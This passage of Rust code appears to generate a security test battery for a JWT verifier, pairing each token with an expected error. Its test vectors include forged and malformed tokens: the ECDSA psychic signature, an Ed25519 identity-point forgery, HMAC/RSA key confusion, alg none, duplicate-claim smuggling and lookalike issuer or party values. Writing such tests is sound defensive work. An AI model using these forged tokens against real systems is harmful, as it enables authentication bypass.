            "ECDSA psychic signature (CVE-2022-21449)",
            v("ec"),
            Text(with_sig(&es, &bad)),
            e(InvalidSignature),
        );
    }
    g.add(
        "es256_high_s",
        "1.4",
        "(r, n-s) of a valid signature: JOSE has no low-S rule",
        v("ec"),
        Text(with_sig(&es, &cat(r, &sub_big_endian(&order, s)))),
        OK,
    );
    let der_int = |x: &[u8]| {
        let x: Vec<u8> = x.iter().copied().skip_while(|b| *b == 0).collect();
        let x = if x[0] & 0x80 != 0 { cat(&[0], &x) } else { x };
        cat(&[2, x.len() as u8], &x)
    };
    let body = cat(&der_int(r), &der_int(s));
    let der_sig = cat(&[0x30, body.len() as u8], &body);
    g.add(
        "es256_der_encoded",
        "1.4",
        "DER-encoded (r,s) instead of R||S",
        v("ec"),
        Text(with_sig(&es, &der_sig)),
        e(InvalidSignature),
    );
    g.add(
        "es256_63_octets",
        "1.4",
        "63 octets",
        v("ec"),
        Text(with_sig(&es, &es_sig[..63])),
        e(InvalidSignature),
    );
    g.add(
        "es256_65_octets",
        "1.4",
        "65 octets (R||S||00)",
        v("ec"),
        Text(with_sig(&es, &cat(&es_sig, &[0]))),
        e(InvalidSignature),
    );

    let ed = g.ed(&std_p);
    g.add(
        "eddsa_genuine",
        "1.4",
        "control: a genuine EdDSA token",
        v("ed"),
        Text(ed.clone()),
        OK,
    );
    let ed_sig = sig_of(&ed);
    let l_le = unhex("edd3f55c1a631258d69cf7a2def9de1400000000000000000000000000000010");
    let mut s_plus_l = ed_sig.clone();
    let mut carry = 0u16;
    for i in 0..32 {
        let v = u16::from(s_plus_l[32 + i]) + u16::from(l_le[i]) + carry;
        s_plus_l[32 + i] = v as u8;
        carry = v >> 8;
    }
    g.add(
        "eddsa_s_plus_l",
        "1.4",
        "Ed25519 malleability: S + L",
        v("ed"),
        Text(with_sig(&ed, &s_plus_l)),
        e(InvalidSignature),
    );
    g.add(
        "eddsa_63_octets",
        "1.4",
        "63 octets",
        v("ed"),
        Text(with_sig(&ed, &ed_sig[..63])),
        e(InvalidSignature),
    );
    g.add(
        "eddsa_all_zero",
        "1.4",
        "all-zero signature",
        v("ed"),
        Text(with_sig(&ed, &[0u8; 64])),
        e(InvalidSignature),
    );

    let hs = hs_with(HMAC_SECRET, hs_h, &std_p);
    g.add(
        "hs256_genuine",
        "1.4",
        "control: a genuine HS256 token",
        v("hmac"),
        Text(hs.clone()),
        OK,
    );
    let hs_sig = sig_of(&hs);
    let hs512 = ring::hmac::sign(
        &ring::hmac::Key::new(ring::hmac::HMAC_SHA512, HMAC_SECRET),
        hs.rsplit_once('.').unwrap().0.as_bytes(),
    );
    for (id, s) in [
        ("16_octets", hs_sig[..16].to_vec()),
        ("1_octet", hs_sig[..1].to_vec()),
        ("empty", vec![]),
        ("hs512_tag", hs512.as_ref().to_vec()),
        (
            "keyed_with_secret",
            sig_of(&hs_with(b"secret", hs_h, &std_p)),
        ),
    ] {
        g.add(
            &format!("hmac_{id}"),
            "1.4",
            "HMAC truncation, wrong hash or wrong key",
            v("hmac"),
            Text(with_sig(&hs, &s)),
            e(InvalidSignature),
        );
    }

    // ---- §1.5 structure and base64url
    let (h, rest) = genuine.split_once('.').unwrap();
    let (pl, sg) = rest.split_once('.').unwrap();
    let (h, pl, sg) = (h.to_owned(), pl.to_owned(), sg.to_owned());
    for (id, t, want) in [
        ("empty_string", String::new(), SegmentCount),
        ("header_only", h.clone(), SegmentCount),
        ("two_segments", format!("{h}.{pl}"), SegmentCount),
        ("dots_only", "..".to_owned(), JsonSyntax),
        ("trailing_dot", format!("{genuine}."), SegmentCount),
        ("extra_segment_e30", format!("{genuine}.e30"), SegmentCount),
        (
            "jwe_five_parts",
            format!("{h}.{pl}.{sg}.{sg}.{sg}"),
            SegmentCount,
        ),
        (
            "json_serialization",
            format!(r#"{{"payload":"{pl}","protected":"{h}","signature":"{sg}"}}"#),
            SegmentCount,
        ),
        (
            "polyglot",
            format!(r#"{{"{h}":".{pl}.","protected":"{h}","signature":"{sg}"}}"#),
            InvalidCharacter,
        ),
        ("padded_signature", format!("{genuine}=="), Padding),
        (
            "plus_slash_alphabet",
            format!("{h}.{pl}.{}", sg.replace('-', "+").replace('_', "/")),
            InvalidCharacter,
        ),
        ("leading_space", format!(" {genuine}"), InvalidCharacter),
        ("trailing_newline", format!("{genuine}\n"), InvalidCharacter),
        (
            "crlf_in_payload",
            format!("{h}.{}\r\n{}.{sg}", &pl[..10], &pl[10..]),
            InvalidCharacter,
        ),
        (
            "tab_in_signature",
            format!("{h}.{pl}.{}\t{}", &sg[..10], &sg[10..]),
            InvalidCharacter,
        ),
        ("question_mark", format!("{h}.{pl}?.{sg}"), InvalidCharacter),
        (
            "payload_length_1_mod_4",
            format!(
                "{h}.{pl}{}.{sg}",
                "A".repeat((1..=4).find(|k| (pl.len() + k) % 4 == 1).unwrap())
            ),
            Base64,
        ),
    ] {
        g.add(
            &format!("structure_{id}"),
            "1.5",
            "truncated, extra or non-compact forms; encoding violations",
            v("rsa"),
            Text(t),
            e(want),
        );
    }
    // Empty payload, genuinely signed: the signature passes, then the payload is not JSON.
    g.add(
        "structure_empty_payload_signed",
        "1.5",
        "empty payload segment, genuinely signed",
        v("rsa"),
        Text(g.rs(rs_h, "")),
        e(JsonSyntax),
    );
    g.add(
        "structure_empty_header",
        "1.5",
        "empty header segment",
        v("rsa"),
        Text(format!(".{pl}.{sg}")),
        e(JsonSyntax),
    );
    let mut e_acute = genuine.clone().into_bytes();
    e_acute.splice(e_acute.len() - 3..e_acute.len() - 3, "é".bytes());
    g.add(
        "structure_non_ascii_in_signature",
        "1.5",
        "é (UTF-8) inside the signature",
        v("rsa"),
        Bytes(e_acute),
        e(InvalidCharacter),
    );
    g.add(
        "structure_many_dots_64k",
        "1.5",
        "65,536 dots: refused by size",
        v("rsa"),
        Repeat(".", 65536),
        e(TokenTooLarge),
    );
    g.add(
        "structure_many_dots_8000",
        "1.5",
        "8,000 dots within the size limit",
        v("rsa"),
        Repeat(".", 8000),
        e(SegmentCount),
    );
    g.add(
        "structure_a_dot_4000",
        "1.5",
        "a. x 4000",
        v("rsa"),
        Repeat("a.", 4000),
        e(SegmentCount),
    );
    let padded_header = (1..)
        .map(|x| b64(format!(r#"{{"alg":"RS256","typ":"JWT","x":{x}}}"#).as_bytes()))
        .find(|h| h.len() % 4 == 3)
        .map(|h| format!("{h}="))
        .unwrap();
    let input = format!("{padded_header}.{pl}");
    let sig = Gen::rsa_sign(&g.rsa, "RS256", input.as_bytes());
    g.add(
        "structure_padded_header_resigned",
        "1.5",
        "header with = padding, signed over the padded text",
        v("rsa"),
        Text(format!("{input}.{}", b64(&sig))),
        e(Padding),
    );
    // Non-canonical trailing bits: the last character of the signature with its unused
    // low bits set decodes to the same octets.
    let last = sg.chars().last().unwrap();
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let idx = alphabet.find(last).unwrap();
    let unused_bits = match sg.len() % 4 {
        2 => 0b1111,
        3 => 0b11,
        _ => unreachable!("a 256-octet signature leaves unused bits"),
    };
    let tweaked = alphabet.as_bytes()[idx | unused_bits] as char;
    assert_ne!(tweaked, last);
    g.add(
        "structure_noncanonical_signature_bits",
        "1.5",
        "signature's unused trailing bits set",
        v("rsa"),
        Text(format!("{h}.{pl}.{}{tweaked}", &sg[..sg.len() - 1])),
        e(Base64),
    );
    let pl2 = b64(b"{\"sub\":\"user_2battery\",\"exp\":9999999999}");
    assert!(pl2.len() % 4 != 0);
    let pl2_last = pl2.chars().last().unwrap();
    let bits = if pl2.len() % 4 == 2 { 0b1111 } else { 0b11 };
    let pl2_bad = format!(
        "{}{}",
        &pl2[..pl2.len() - 1],
        alphabet.as_bytes()[alphabet.find(pl2_last).unwrap() | bits] as char
    );
    let input = format!("{h}.{pl2_bad}");
    let sig = Gen::rsa_sign(&g.rsa, "RS256", input.as_bytes());
    g.add(
        "structure_noncanonical_payload_resigned",
        "1.5",
        "payload with non-zero unused bits, re-signed over that text",
        v("rsa"),
        Text(format!("{input}.{}", b64(&sig))),
        e(Base64),
    );

    // ---- §1.6 JSON
    let json_cases: Vec<(&str, String, Error)> = vec![
        (
            "duplicate_sub",
            format!(
                r#"{{"sub":"user_a","exp":{},"sub":"user_admin"}}"#,
                NOW + 60
            ),
            DuplicateMember,
        ),
        (
            "duplicate_sub_escaped",
            format!(
                r#"{{"sub":"user_a","exp":{},"s\u0075b":"user_admin"}}"#,
                NOW + 60
            ),
            DuplicateMember,
        ),
        (
            "duplicate_exp",
            format!(r#"{{"sub":"u","exp":{},"exp":{}}}"#, NOW - 60, NOW + 60),
            DuplicateMember,
        ),
        (
            "duplicate_nested",
            p(r#""o":{"rol":"member","rol":"admin"}"#),
            DuplicateMember,
        ),
        ("raw_newline_in_string", p("\"x\":\"a\nb\""), JsonSyntax),
        ("nan", p(r#""x":NaN"#), JsonSyntax),
        ("infinity", p(r#""x":Infinity"#), JsonSyntax),
        ("trailing_garbage", format!("{}x", p("")), JsonSyntax),
        ("trailing_comma", p(r#""x":1,"#), JsonSyntax),
        ("single_quotes", p("'x':1"), JsonSyntax),
        ("comment", p(r#""x":1 /*c*/"#), JsonSyntax),
        ("lone_surrogate", p(r#""name":"\ud800""#), InvalidEscape),
        ("payload_array", "[]".into(), NotAnObject),
        ("payload_string", r#""sub""#.into(), NotAnObject),
        ("payload_number", "1".into(), NotAnObject),
        ("payload_null", "null".into(), NotAnObject),
        ("payload_true", "true".into(), NotAnObject),
        (
            "deep_nesting_1000",
            p(&format!(r#""x":{}{}"#, "[".repeat(1000), "]".repeat(1000))),
            JsonTooDeep,
        ),
    ];
    for (id, payload, want) in json_cases {
        g.add(
            &format!("json_{id}"),
            "1.6",
            "strict JSON in the payload",
            v("ed"),
            Text(g.ed(&payload)),
            e(want),
        );
    }
    for (id, h, want) in [
        (
            "duplicate_alg_header",
            r#"{"alg":"none","typ":"JWT","alg":"EdDSA"}"#,
            DuplicateMember,
        ),
        (
            "duplicate_alg_escaped",
            r#"{"alg":"EdDSA","\u0061lg":"none"}"#,
            DuplicateMember,
        ),
        ("header_array", r#"["EdDSA"]"#, NotAnObject),
    ] {
        g.add(
            &format!("json_{id}"),
            "1.6",
            "strict JSON in the header",
            v("ed"),
            Text(g.sign("EdDSA", h.as_bytes(), std_p.as_bytes())),
            e(want),
        );
    }
    let nonutf8 = |bytes: &[u8]| {
        let mut p = br#"{"sub":"user_"#.to_vec();
        p.extend(bytes);
        p.extend(format!(r#"","exp":{}}}"#, NOW + 60).bytes());
        p
    };
    for (id, bytes) in [
        ("overlong_c0af", &b"\xc0\xaf"[..]),
        ("cesu8_surrogate", b"\xed\xa0\x80"),
    ] {
        g.add(
            &format!("json_invalid_utf8_{id}"),
            "1.6",
            "invalid UTF-8 in sub",
            v("ed"),
            Text(g.sign("EdDSA", br#"{"alg":"EdDSA"}"#, &nonutf8(bytes))),
            e(InvalidUtf8),
        );
    }
    g.add(
        "json_invalid_utf8_header_ff",
        "1.6",
        "0xFF in the header",
        v("ed"),
        Text(g.sign(
            "EdDSA",
            b"{\"alg\":\"EdDSA\",\"x\":\"\xff\"}",
            std_p.as_bytes(),
        )),
        e(InvalidUtf8),
    );
    g.add(
        "json_bom_before_payload",
        "1.6",
        "UTF-8 BOM before the payload JSON",
        v("ed"),
        Text(g.sign(
            "EdDSA",
            br#"{"alg":"EdDSA"}"#,
            &[b"\xef\xbb\xbf", std_p.as_bytes()].concat(),
        )),
        e(JsonSyntax),
    );
    g.add(
        "json_bom_before_header",
        "1.6",
        "UTF-8 BOM before the header JSON",
        v("ed"),
        Text(g.sign(
            "EdDSA",
            b"\xef\xbb\xbf{\"alg\":\"EdDSA\"}",
            std_p.as_bytes(),
        )),
        e(JsonSyntax),
    );
    g.add(
        "json_surrogate_pair_ok",
        "1.6",
        "a valid surrogate pair in sub",
        v("ed"),
        Text(g.ed(&format!(
            r#"{{"sub":"user_\ud83d\ude00","exp":{}}}"#,
            NOW + 60
        ))),
        Ok(Some("user_\u{1F600}")),
    );
    g.add("json_nul_in_sub_round_trips", "1.11", "\\u0000 inside sub: accepted, and the sub is all 21 bytes (a NUL-terminated C string would see user_2test)", v("ed"), Text(g.ed(&format!(r#"{{"sub":"user_2test\u0000_admin_xyz","exp":{}}}"#, NOW + 60))), Ok(Some("user_2test\u{0}_admin_xyz")));
    g.add(
        "json_escaped_slashes_in_azp",
        "1.6",
        "azp written https:\\/\\/...: compared after unescaping",
        json!({"keys": ["ed25519"], "authorized_parties": [APP]}),
        Text(g.ed(&p(r#""azp":"https:\/\/app.example.com""#))),
        OK,
    );
    g.add(
        "json_depth_20_ok",
        "1.6",
        "control: nesting depth 20",
        v("ed"),
        Text(g.ed(&p(&format!(r#""x":{}{}"#, "[".repeat(20), "]".repeat(20))))),
        OK,
    );
    g.add(
        "json_number_overflow_custom_claim",
        "1.6",
        "custom claim 1e400: strict JSON allows it; only time claims must be finite",
        v("ed"),
        Text(g.ed(&p(r#""x":1e400"#))),
        OK,
    );
    g.add(
        "json_whitespace_crlf_header",
        "1.6",
        "insignificant whitespace in the header (RFC 7515 A.1)",
        v("ed"),
        Text(g.sign(
            "EdDSA",
            b"{\"typ\":\"JWT\",\r\n \"alg\":\"EdDSA\"}",
            std_p.as_bytes(),
        )),
        OK,
    );

    // ---- §1.7 sizes
    // Token lengths move by 0-2 characters per payload byte (base64url has no length
    // 1 mod 4): the longest token of at most `max` bytes, and the shortest beyond it.
    let around = |g: &Gen, max: usize| {
        let pad_for = |pad: usize| g.ed(&p(&format!(r#""pad":"{}""#, "x".repeat(pad))));
        let mut pad = (max - pad_for(0).len()) * 3 / 4 - 8;
        let mut below = pad_for(pad);
        loop {
            let t = pad_for(pad + 1);
            if t.len() > max {
                return (below, t);
            }
            below = t;
            pad += 1;
        }
    };
    let (t4096, _) = around(&g, 4096);
    let (t8192, t8193) = around(&g, 8192);
    assert!(t8192.len() <= 8192 && t8193.len() > 8192);
    g.add(
        &format!("size_{}_bytes_ok", t4096.len()),
        "1.7",
        "a cookie-sized token",
        v("ed"),
        Text(t4096.clone()),
        OK,
    );
    g.add(
        &format!("size_{}_bytes_ok", t8192.len()),
        "1.7",
        "at most 8192 bytes: accepted",
        v("ed"),
        Text(t8192.clone()),
        OK,
    );
    g.add(
        &format!("size_{}_bytes_too_large", t8193.len()),
        "1.7",
        "beyond 8192 bytes: refused before decoding",
        v("ed"),
        Text(t8193),
        e(TokenTooLarge),
    );
    g.add(
        "size_64k_of_a",
        "1.7",
        "65,536 x A",
        v("ed"),
        Repeat("A", 65536),
        e(TokenTooLarge),
    );
    g.add(
        "size_limit_respects_option",
        "1.7",
        "max_token_bytes 4000 refuses a 4096-byte token",
        json!({"keys": ["ed25519"], "max_token_bytes": 4000}),
        Text(t4096),
        e(TokenTooLarge),
    );

    // ---- §1.8 time claims
    let with_exp = |exp: &str| format!(r#"{{"sub":"u","exp":{exp}}}"#);
    let skew0 = json!({"keys": ["ed25519"], "clock_skew_ms": 0});
    for (id, exp, skew0_verifier, want) in [
        ("exp_equals_now_skew_0", NOW.to_string(), true, Err(Expired)),
        ("exp_now_plus_1_skew_0", (NOW + 1).to_string(), true, Ok(())),
        (
            "exp_now_minus_5_skew_5000",
            (NOW - 5).to_string(),
            false,
            Err(Expired),
        ),
        (
            "exp_now_minus_4_skew_5000",
            (NOW - 4).to_string(),
            false,
            Ok(()),
        ),
        ("exp_zero", "0".into(), false, Err(Expired)),
        ("exp_negative", "-1".into(), false, Err(Expired)),
        ("exp_float_future", format!("{}.5", NOW + 60), true, Ok(())),
        (
            "exp_float_just_past",
            format!("{}.5", NOW - 1),
            true,
            Err(Expired),
        ),
        ("exp_exponent_notation", "170000007e1".into(), true, Ok(())),
        (
            "exp_string",
            r#""1700003600""#.into(),
            false,
            Err(InvalidExpiration),
        ),
        (
            "exp_string_never",
            r#""never""#.into(),
            false,
            Err(InvalidExpiration),
        ),
        ("exp_null", "null".into(), false, Err(InvalidExpiration)),
        ("exp_true", "true".into(), false, Err(InvalidExpiration)),
        (
            "exp_array",
            format!("[{}]", NOW + 60),
            false,
            Err(InvalidExpiration),
        ),
        ("exp_1e400", "1e400".into(), false, Err(InvalidExpiration)),
        (
            "exp_minus_1e400",
            "-1e400".into(),
            false,
            Err(InvalidExpiration),
        ),
        ("exp_minus_1e13", "-1e13".into(), false, Err(Expired)),
        (
            "exp_2_pow_63",
            "9223372036854775808".into(),
            false,
            Err(InvalidExpiration),
        ),
        (
            "exp_2_pow_64_minus_1",
            "18446744073709551615".into(),
            false,
            Err(InvalidExpiration),
        ),
    ] {
        let verifier = if skew0_verifier {
            skew0.clone()
        } else {
            v("ed")
        };
        let want = want.map(|()| None).map_err(|x| ("verify", x));
        g.add(
            &format!("time_{id}"),
            "1.8",
            "exp boundaries and types (skew in ms)",
            verifier,
            Text(g.ed(&with_exp(&exp))),
            want,
        );
    }
    g.add(
        "time_exp_missing",
        "1.8",
        "exp is required",
        v("ed"),
        Text(g.ed(r#"{"sub":"u"}"#)),
        e(InvalidExpiration),
    );
    let exp_ok = NOW + 60;
    for (id, claim, skew0_verifier, want) in [
        (
            "nbf_now_plus_6_skew_5000",
            format!(r#""nbf":{}"#, NOW + 6),
            false,
            Err(NotYetValid),
        ),
        (
            "nbf_now_plus_5_skew_5000",
            format!(r#""nbf":{}"#, NOW + 5),
            false,
            Ok(()),
        ),
        (
            "nbf_equals_now_skew_0",
            format!(r#""nbf":{NOW}"#),
            true,
            Ok(()),
        ),
        (
            "nbf_now_plus_1_skew_0",
            format!(r#""nbf":{}"#, NOW + 1),
            true,
            Err(NotYetValid),
        ),
        (
            "nbf_string",
            r#""nbf":"1666648240""#.to_owned(),
            false,
            Err(InvalidNotBefore),
        ),
        (
            "iat_now_plus_6_skew_5000",
            format!(r#""iat":{}"#, NOW + 6),
            false,
            Err(IssuedInFuture),
        ),
        (
            "iat_now_plus_5_skew_5000",
            format!(r#""iat":{}"#, NOW + 5),
            false,
            Ok(()),
        ),
        (
            "iat_string",
            r#""iat":"yesterday""#.to_owned(),
            false,
            Err(InvalidIssuedAt),
        ),
    ] {
        let verifier = if skew0_verifier {
            skew0.clone()
        } else {
            v("ed")
        };
        let want = want.map(|()| None).map_err(|x| ("verify", x));
        g.add(
            &format!("time_{id}"),
            "1.8",
            "nbf and iat with the skew",
            verifier,
            Text(g.ed(&format!(r#"{{"sub":"u","exp":{exp_ok},{claim}}}"#))),
            want,
        );
    }
    let expired = g.ed(&with_exp(&(NOW - 3600).to_string()));
    g.add(
        "precedence_expired_and_bad_signature",
        "1.8",
        "signature errors win over claim errors",
        v("ed"),
        Text(with_sig(&expired, &[0u8; 64])),
        e(InvalidSignature),
    );
    let none_expired = format!(
        "{}.{}.",
        b64(br#"{"alg":"none"}"#),
        b64(with_exp(&(NOW - 3600).to_string()).as_bytes())
    );
    g.add(
        "precedence_none_and_expired",
        "1.8",
        "alg none wins over expiry",
        v("ed"),
        Text(none_expired),
        e(AlgNotAllowed),
    );
    let not_json = format!(
        "{}.{}.{}",
        b64(br#"{"alg":"EdDSA"}"#),
        b64(b"not json"),
        b64(&[0u8; 64])
    );
    g.add(
        "precedence_non_json_payload_and_bad_signature",
        "1.8",
        "the payload is parsed only after the signature",
        v("ed"),
        Text(not_json),
        e(InvalidSignature),
    );
    // Encoding errors in any segment come first (security.md §0 step 3 before steps 4-5;
    // Clerk decodes all three parts before any check): `AB` leaves non-zero trailing bits.
    for (id, header, verifier) in [
        ("alg_refused", r#"{"alg":"HS256"}"#, "rsa"),
        (
            "kid_unknown",
            r#"{"alg":"RS256","kid":"ins_unknown"}"#,
            "jwks_two",
        ),
        ("typ_wrong", r#"{"alg":"EdDSA","typ":"at+jwt"}"#, "ed"),
    ] {
        g.add(
            &format!("precedence_signature_encoding_and_{id}"),
            "1.5",
            "a non-canonical signature segment is malformed before any header check",
            v(verifier),
            Text(format!(
                "{}.{}.AB",
                b64(header.as_bytes()),
                b64(std_p.as_bytes())
            )),
            e(Base64),
        );
    }
    g.add(
        "time_now_far_future",
        "1.8",
        "a valid token verified an hour later",
        v("ed"),
        Text(g.ed(&std_p)),
        e(Expired),
    );
    g.at(NOW_MS + 3_600_000);

    // ---- §1.9 identity claims
    let azp = json!({"keys": ["ed25519"], "authorized_parties": [APP]});
    for (id, claim, want) in [
        ("azp_missing", String::new(), AuthorizedPartyMissing),
        (
            "azp_other_origin",
            r#""azp":"https://evil.example.com""#.into(),
            AuthorizedPartyMismatch,
        ),
        ("azp_empty", r#""azp":"""#.into(), AuthorizedPartyMissing),
        (
            "azp_array",
            format!(r#""azp":["{APP}"]"#),
            AuthorizedPartyMismatch,
        ),
        (
            "azp_cyrillic_a",
            r#""azp":"https://\u0430pp.example.com""#.into(),
            AuthorizedPartyMismatch,
        ),
        (
            "azp_fullwidth_dot",
            "\"azp\":\"https://app\u{ff0e}example.com\"".into(),
            AuthorizedPartyMismatch,
        ),
        (
            "azp_trailing_slash",
            format!(r#""azp":"{APP}/""#),
            AuthorizedPartyMismatch,
        ),
        (
            "azp_upper_case_host",
            r#""azp":"https://APP.example.com""#.into(),
            AuthorizedPartyMismatch,
        ),
        (
            "azp_nul_suffix",
            format!(r#""azp":"{APP}\u0000.evil.com""#),
            AuthorizedPartyMismatch,
        ),
        (
            "azp_prefix_match",
            format!(r#""azp":"{APP}.evil.com""#),
            AuthorizedPartyMismatch,
        ),
    ] {
        g.add(
            &format!("claims_{id}"),
            "1.9",
            "authorized parties: exact code-point match, required when configured",
            azp.clone(),
            Text(g.ed(&p(&claim))),
            e(want),
        );
    }
    g.add(
        "claims_azp_matches",
        "1.9",
        "control: azp equals the configured party",
        azp.clone(),
        Text(g.ed(&p(&format!(r#""azp":"{APP}""#)))),
        OK,
    );
    g.add(
        "claims_azp_empty_listed",
        "1.9",
        "an empty azp fails even when \"\" is configured",
        json!({"keys": ["ed25519"], "authorized_parties": [""]}),
        Text(g.ed(&p(r#""azp":"""#))),
        e(AuthorizedPartyMissing),
    );
    g.add(
        "claims_azp_nfd_vs_nfc",
        "1.9",
        "NFD café in the token, NFC configured: never normalised",
        json!({"keys": ["ed25519"], "authorized_parties": ["https://caf\u{e9}.example.com"]}),
        Text(g.ed(&p("\"azp\":\"https://cafe\u{301}.example.com\""))),
        e(AuthorizedPartyMismatch),
    );
    g.add(
        "claims_no_parties_no_azp",
        "1.9",
        "no parties configured, no azp: fine",
        v("ed"),
        Text(g.ed(&std_p)),
        OK,
    );
    let aud = json!({"keys": ["ed25519"], "audiences": ["API"]});
    for (id, claim, want) in [
        ("aud_string", r#""aud":"API""#, None),
        ("aud_array_contains", r#""aud":["other","API"]"#, None),
        (
            "aud_array_other",
            r#""aud":["other"]"#,
            Some(AudienceMismatch),
        ),
        (
            "aud_string_other",
            r#""aud":"other""#,
            Some(AudienceMismatch),
        ),
        ("aud_missing", "", Some(AudienceMissing)),
        ("aud_empty_array", r#""aud":[]"#, Some(AudienceMismatch)),
        (
            "aud_array_empty_string",
            r#""aud":[""]"#,
            Some(AudienceMismatch),
        ),
        ("aud_number", r#""aud":1"#, Some(AudienceMismatch)),
        (
            "aud_mixed_array",
            r#""aud":[1,"API"]"#,
            Some(AudienceMismatch),
        ),
        (
            "aud_suffix",
            r#""aud":"API.evil.com""#,
            Some(AudienceMismatch),
        ),
    ] {
        let want = match want {
            None => OK,
            Some(x) => e(x),
        };
        g.add(
            &format!("claims_{id}"),
            "1.9",
            "audience: string or non-empty array of strings containing a configured value",
            aud.clone(),
            Text(g.ed(&p(claim))),
            want,
        );
    }
    g.add(
        "claims_aud_present_not_configured",
        "1.9",
        "aud present, no audience configured",
        v("ed"),
        Text(g.ed(&p(r#""aud":"anything""#))),
        OK,
    );
    let iss = json!({"keys": ["ed25519"], "issuers": [ISS]});
    g.add(
        "claims_iss_matches",
        "1.9",
        "control: iss equals the issuer",
        iss.clone(),
        Text(g.ed(&p(&format!(r#""iss":"{ISS}""#)))),
        OK,
    );
    for (id, claim) in [
        (
            "iss_other",
            r#""iss":"https://evil.example.com""#.to_owned(),
        ),
        ("iss_missing", String::new()),
        ("iss_suffix", format!(r#""iss":"{ISS}.evil.com""#)),
        ("iss_substring", r#""iss":"clerk.example""#.to_owned()),
        ("iss_array", format!(r#""iss":["{ISS}"]"#)),
        ("iss_trailing_slash", format!(r#""iss":"{ISS}/""#)),
    ] {
        g.add(
            &format!("claims_{id}"),
            "1.9",
            "issuer: byte-equal",
            iss.clone(),
            Text(g.ed(&p(&claim))),
            e(IssuerMismatch),
        );
    }
    for (id, sub) in [
        ("number", "12345"),
        ("null", "null"),
        ("object", r#"{"id":"u"}"#),
    ] {
        g.add(
            &format!("claims_sub_{id}"),
            "1.9",
            "sub must be a string",
            v("ed"),
            Text(g.ed(&format!(r#"{{"sub":{sub},"exp":{}}}"#, NOW + 60))),
            e(InvalidSubject),
        );
    }
    g.add(
        "claims_sub_missing",
        "1.9",
        "sub is required",
        v("ed"),
        Text(g.ed(&format!(r#"{{"exp":{}}}"#, NOW + 60))),
        e(InvalidSubject),
    );

    // ---- §1.10 key configuration
    let any = Text(genuine.clone());
    g.add(
        "key_rsa_1024_rejected",
        "1.10",
        "RSA-1024 key: refused at load",
        json!({"keys": ["rsa1024"]}),
        any,
        build_err(KeyRsaTooSmall),
    );
    g.add(
        "key_hmac_secret_16_bytes_rejected",
        "1.10",
        "16-byte HS256 secret: refused at load",
        json!({"keys": ["hmac16"]}),
        Text(hs_with(&[7u8; 16], hs_h, &std_p)),
        build_err(KeyHmacTooShort),
    );
    g.add(
        "key_hmac_32_bytes_with_hs512_allowed",
        "1.10",
        "a 32-byte secret cannot serve HS512",
        json!({"keys": ["hmac"], "algorithms": ["HS256", "HS512"]}),
        Text(hs.clone()),
        build_err(KeyHmacTooShort),
    );
    g.add(
        "key_rsa_exponent_1",
        "1.10",
        "JWK with e=1",
        json!({"keys": ["jwk_e1"]}),
        Text(genuine.clone()),
        build_err(KeyRsaExponent),
    );
    g.add(
        "key_rsa_exponent_even",
        "1.10",
        "JWK with an even e",
        json!({"keys": ["jwk_e_even"]}),
        Text(genuine.clone()),
        build_err(KeyRsaExponent),
    );
    g.add(
        "key_ec_short_coordinate",
        "1.10",
        "EC JWK with a 31-byte x",
        json!({"keys": ["jwk_ec_short_x"]}),
        Text(es.clone()),
        build_err(KeyInvalidPoint),
    );
    for (id, key) in [("pem", "hmac_is_rsa_pem"), ("jwk", "hmac_is_rsa_jwk")] {
        g.add(
            &format!("key_hmac_secret_is_public_key_{id}"),
            "1.10",
            "the RSA public key given as the HMAC secret: refused at load (CVE-2017-11424 class)",
            json!({"keys": [key]}),
            Text(hs_with(rsa_pem.as_bytes(), hs_h, &std_p)),
            build_err(KeyHmacPublicKey),
        );
    }
    g.add(
        "key_ec_point_off_curve",
        "1.10",
        "EC JWK whose y was changed by one bit: not on P-256, refused at load",
        json!({"keys": ["jwk_ec_off_curve"]}),
        Text(es.clone()),
        build_err(KeyInvalidPoint),
    );
    g.add(
        "key_ec_wrong_curve_p521",
        "1.10",
        "P-521 JWK: unsupported curve",
        json!({"keys": ["jwk_p521"]}),
        Text(es.clone()),
        build_err(KeyUnsupported),
    );
    // R = the identity (y = 1), S = 0: a signature of any message under a small-order key.
    let mut identity_sig = [0u8; 64];
    identity_sig[0] = 1;
    let forged_ed = format!(
        "{}.{}.{}",
        b64(br#"{"alg":"EdDSA"}"#),
        b64(std_p.as_bytes()),
        b64(&identity_sig)
    );
    g.add(
        "key_ed25519_small_order_identity",
        "1.10",
        "Ed25519 JWK that is the identity point (any message verifies with R = identity, S = 0)",
        json!({"keys": ["jwk_ed_identity"]}),
        Text(forged_ed.clone()),
        build_err(KeyInvalidPoint),
    );
    g.add(
        "key_ed25519_small_order_8",
        "1.10",
        "Ed25519 JWK that is a point of order 8",
        json!({"keys": ["jwk_ed_order8"]}),
        Text(forged_ed),
        build_err(KeyInvalidPoint),
    );

    // ---- §1.11 bytes a C string or a JS string would mangle
    let mut nul = genuine.clone().into_bytes();
    nul.insert(genuine.len() / 2, 0);
    g.add(
        "bytes_embedded_nul_in_token",
        "1.11",
        "a NUL byte inside the token",
        v("rsa"),
        Bytes(nul),
        e(InvalidCharacter),
    );
    let mut truncated_at_nul = genuine.clone().into_bytes();
    truncated_at_nul.push(0);
    truncated_at_nul.extend(b"garbage");
    g.add(
        "bytes_nul_then_garbage",
        "1.11",
        "a genuine token followed by NUL and garbage (a C API must use the length)",
        v("rsa"),
        Bytes(truncated_at_nul),
        e(InvalidCharacter),
    );
    let mut ff = genuine.clone().into_bytes();
    ff.insert(5, 0xff);
    g.add(
        "bytes_invalid_utf8_in_token",
        "1.11",
        "a 0xFF byte inside the token",
        v("rsa"),
        Bytes(ff),
        e(InvalidCharacter),
    );
    let mut overlong = genuine.clone().into_bytes();
    overlong.splice(0..0, [0xc0, 0xae]);
    g.add(
        "bytes_overlong_dot_prefix",
        "1.11",
        "an overlong UTF-8 '.' (C0 AE) before the token",
        v("rsa"),
        Bytes(overlong),
        e(InvalidCharacter),
    );

    // ---- the file
    let key_jwk = |kid: &str, extra: &str| {
        format!(
            r#"{{"kty":"RSA","kid":"{kid}","n":"{}","e":"AQAB"{extra}}}"#,
            b64(&n)
        )
    };
    let jwks = |keys: &[String]| format!(r#"{{"keys":[{}]}}"#, keys.join(","));
    let keys = json!({
        "rsa2048": {"pem_file": "core/tests/data/battery-rsa2048-public.pem"},
        "rsa1024": {"pem_file": "core/tests/data/rsa1024-public.pem"},
        "ec256": {"pem_file": "core/tests/data/battery-ec-p256-public.pem"},
        "ed25519": {"pem_file": "core/tests/data/battery-ed25519-public.pem"},
